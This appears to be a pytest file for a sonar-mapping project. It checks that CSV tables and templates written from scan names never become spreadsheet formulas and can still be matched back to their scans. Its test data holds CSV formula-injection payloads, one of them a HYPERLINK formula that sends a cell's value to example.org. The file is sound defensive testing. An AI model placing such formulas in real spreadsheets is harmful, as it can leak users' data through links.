"""Tables of CSV: no text of theirs is a formula, and our readers find the same scans by the names in them."""

import csv
import json
import random
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest

from sonarmap.spectral.scan import Scan
from sonarmap.tools.files.csv_cell import plain_text
from sonarmap.tools.files.readers.csv_table import read_csv_table
from sonarmap.tools.files.readers.navigation.match import named_scan
from sonarmap.tools.files.writers.priors import write_template
from sonarmap.tools.files.writers.table import write_table
from tests.samples.command_line import ROOT

NAMES = (
    '=HYPERLINK("http://example.org/?"&A1;"open")',
    *("=1+1", "+SUM(A1)", "-2+3", "@x", "\t=1", "\r=2", "'=3", "''+4x", "'a", "\uff1d5"),
    *("x;=6", "x\t=7", "x,=8", 'x"=9', "#10", " 11 ", "two\nlines", "lone\udce9", "-12", "+1e3", "-1_3", "plain"),
)


def drawn(count: int) -> list[str]:
    """Texts of what matters, in any order."""
    rng = random.Random(5)
    return ["".join(rng.choices("=+-@'\t\r\n ;,\"#1a_\udce9\uff0b", k=rng.randint(0, 6))) for _ in range(count)]


def test_no_cell_is_a_formula_and_a_text_is_read_as_it_was(tmp_path: Path) -> None:
    """Neither where cells end at commas nor where they end at semicolons or tabs too."""
    texts = [*NAMES, *drawn(20_000)]
    write_table(tmp_path / "a.csv", ["name", "n"], ([text, 1] for text in texts))
    written = (tmp_path / "a.csv").read_text(encoding="utf-8")
    for separator in ",;\t":
        for row in csv.reader(written.splitlines(), delimiter=separator):
            for cell in row if separator == "," else row[:1]:
                assert cell[:1] not in tuple("=+-@\t\r") or np.isfinite(float(cell.split(",")[0])), row
    assert [row.cells[0] for row in read_csv_table(tmp_path / "a.csv").rows] == [plain_text(text) for text in texts]


def test_a_template_names_the_scans_it_was_made_of(tmp_path: Path) -> None:
    scans = [Scan(np.ones((1, 3), np.float32), stamp=float(k), name=name) for k, name in enumerate(NAMES)]
    write_template(tmp_path / "a.csv", NAMES, [scan.stamp for scan in scans])
    rows = read_csv_table(tmp_path / "a.csv").rows
    assert [named_scan(scans, row.cells[0], "a row") for row in rows] == list(range(len(NAMES)))


def test_the_report_s_files_are_written_likewise(tmp_path: Path) -> None:
    if (node := shutil.which("node")) is None:
        pytest.skip("no Node.js is installed: apt-get install nodejs")
    texts = [text.encode("utf-8", "backslashreplace").decode() for text in (*NAMES, *drawn(5000))]
    write_table(tmp_path / "a.csv", ["name", "n"], ([text, -0.5] for text in texts))
    script = (ROOT / "tools/products/report/page/web/byhand/csv.js").read_text(encoding="utf-8")
    rows = [{"name": text, "n": -0.5} for text in texts]
    script += f"\nprocess.stdout.write(csvOf('a,=1;=2', ['name', 'n'], {json.dumps(rows)}));\n"
    (tmp_path / "a.js").write_text(script, encoding="utf-8")
    said = subprocess.run([node, str(tmp_path / "a.js")], capture_output=True, check=True).stdout.decode()
    comment, rest = said.split("\n", 1)
    assert comment == "# a =1 =2"
    assert rest == (tmp_path / "a.csv").read_text(encoding="utf-8")
